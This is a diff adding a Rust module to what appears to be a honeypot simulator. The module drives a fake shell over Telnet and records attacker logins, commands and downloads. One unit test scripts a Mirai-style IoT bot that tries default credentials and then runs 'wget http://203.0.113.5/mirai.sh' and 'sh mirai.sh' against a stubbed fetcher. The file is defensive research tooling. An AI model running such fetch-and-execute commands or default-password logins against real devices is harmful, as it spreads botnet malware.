@@ -1,0 +1,175 @@
+//! Telnet wire path: the honeypot policy and shell driven through a real
+//! `telwire` dialogue (the port-23 counterpart of [`crate::wire`]).
+
+use crate::auth::AuthPolicy;
+use crate::record::{
+    CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
+};
+use crate::shell::{RemoteStore, Shell};
+use hutil::DateTime;
+use netsim::Ipv4Addr;
+use telwire::{run_telnet_dialogue, TelnetClient, TelnetError, TelnetHandler, TelnetScript, TelnetServer};
+
+/// Bridges the honeypot policy and shell into `telwire`'s handler trait.
+pub struct TelnetWireHandler<'s> {
+    policy: AuthPolicy,
+    shell: Shell<'s>,
+    commands: Vec<CommandRecord>,
+}
+
+impl<'s> TelnetWireHandler<'s> {
+    /// New handler over a fresh shell.
+    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
+        Self { policy, shell: Shell::new(store), commands: Vec::new() }
+    }
+}
+
+impl TelnetHandler for TelnetWireHandler<'_> {
+    fn auth(&mut self, username: &str, password: &str) -> bool {
+        self.policy.accept(username, password)
+    }
+
+    fn exec(&mut self, command: &str) -> String {
+        let outcome = self.shell.exec_line(command);
+        self.commands.push(CommandRecord { input: command.to_string(), known: outcome.known });
+        let mut out = outcome.output;
+        if !out.is_empty() && !out.ends_with('\n') {
+            out.push_str("\r\n");
+        }
+        out
+    }
+}
+
+/// Network identity for a Telnet wire session.
+#[derive(Debug, Clone)]
+pub struct TelnetSessionMeta {
+    /// Target sensor id.
+    pub honeypot_id: u16,
+    /// Target sensor address.
+    pub honeypot_ip: Ipv4Addr,
+    /// Source address.
+    pub client_ip: Ipv4Addr,
+    /// Source port.
+    pub client_port: u16,
+    /// Handshake completion instant.
+    pub start: DateTime,
+}
+
+/// Runs a scripted bot against the honeypot over the Telnet protocol and
+/// returns the session record plus total wire bytes.
+pub fn run_telnet_session(
+    meta: &TelnetSessionMeta,
+    script: TelnetScript,
+    policy: AuthPolicy,
+    store: &dyn RemoteStore,
+) -> Result<(SessionRecord, u64), TelnetError> {
+    let client = TelnetClient::new(script);
+    let server = TelnetServer::new(TelnetWireHandler::new(policy, store), "svr04");
+    let (log, mut handler) = run_telnet_dialogue(client, server)?;
+    let wire_bytes = log.bytes_to_server + log.bytes_to_client;
+
+    let logins: Vec<LoginAttempt> = log
+        .auth_log
+        .iter()
+        .map(|(u, p, ok)| LoginAttempt {
+            username: u.clone(),
+            password: p.clone(),
+            success: *ok,
+        })
+        .collect();
+    let (uris, file_events) = handler.shell.take_observations();
+    let rounds = 3 + logins.len() as i64 + handler.commands.len() as i64;
+    let record = SessionRecord {
+        session_id: 0,
+        honeypot_id: meta.honeypot_id,
+        honeypot_ip: meta.honeypot_ip,
+        client_ip: meta.client_ip,
+        client_port: meta.client_port,
+        protocol: Protocol::Telnet,
+        start: meta.start,
+        end: meta.start.plus_secs(rounds),
+        end_reason: SessionEndReason::ClientClose,
+        client_version: None, // Telnet has no identification string
+        logins,
+        commands: std::mem::take(&mut handler.commands),
+        uris,
+        file_events,
+    };
+    Ok((record, wire_bytes))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::record::FileOp;
+    use hutil::Date;
+
+    fn meta() -> TelnetSessionMeta {
+        TelnetSessionMeta {
+            honeypot_id: 9,
+            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 9),
+            client_ip: Ipv4Addr::from_octets(10, 3, 3, 3),
+            client_port: 23456,
+            start: Date::new(2022, 9, 9).at(3, 0, 0),
+        }
+    }
+
+    #[test]
+    fn telnet_iot_bot_session() {
+        let fetch = |uri: &str| {
+            (uri == "http://203.0.113.5/mirai.sh").then(|| b"#!/bin/sh\nM\n".to_vec())
+        };
+        let script = TelnetScript {
+            logins: vec![
+                ("root".into(), "root".into()), // rejected
+                ("root".into(), "vertex25ektks123".into()),
+            ],
+            commands: vec![
+                "cd /tmp".into(),
+                "wget http://203.0.113.5/mirai.sh".into(),
+                "sh mirai.sh".into(),
+            ],
+        };
+        let (rec, bytes) =
+            run_telnet_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
+        assert_eq!(rec.protocol, Protocol::Telnet);
+        assert_eq!(rec.logins.len(), 2);
+        assert!(!rec.logins[0].success && rec.logins[1].success);
+        assert_eq!(rec.commands.len(), 3);
+        assert!(rec.uris.contains(&"http://203.0.113.5/mirai.sh".to_string()));
+        assert!(rec.file_events.iter().any(|e| matches!(e.op, FileOp::Created { .. })));
+        assert!(rec.attempts_exec());
+        assert!(bytes > 100);
+    }
+
+    #[test]
+    fn telnet_scouting_session() {
+        let store = crate::shell::NullStore;
+        let script = TelnetScript {
+            logins: vec![
+                ("admin".into(), "admin".into()),
+                ("root".into(), "root".into()),
+                ("guest".into(), "guest".into()),
+            ],
+            commands: vec!["id".into()],
+        };
+        let (rec, _) =
+            run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
+        assert!(!rec.login_succeeded());
+        assert!(rec.commands.is_empty());
+        assert_eq!(rec.logins.len(), 3);
+    }
+
+    #[test]
+    fn telnet_record_has_no_client_version() {
+        let store = crate::shell::NullStore;
+        let script = TelnetScript {
+            logins: vec![("root".into(), "tvbox".into())],
+            commands: vec![],
+        };
+        let (rec, _) =
+            run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
+        assert!(rec.client_version.is_none());
+        assert!(rec.login_succeeded());
+    }
+}
